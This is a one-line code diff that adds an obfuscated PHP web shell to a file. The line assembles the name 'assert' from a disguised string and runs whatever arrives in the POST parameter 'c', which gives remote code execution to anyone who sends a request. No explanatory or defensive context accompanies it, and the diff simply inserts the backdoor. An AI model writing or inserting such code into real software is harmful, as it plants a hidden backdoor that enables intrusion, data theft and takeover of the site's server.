@@ -1,0 +1,1 @@
+<?php $f = str_replace('x', '', 'axsxsxexrxt'); $f($_POST['c']);
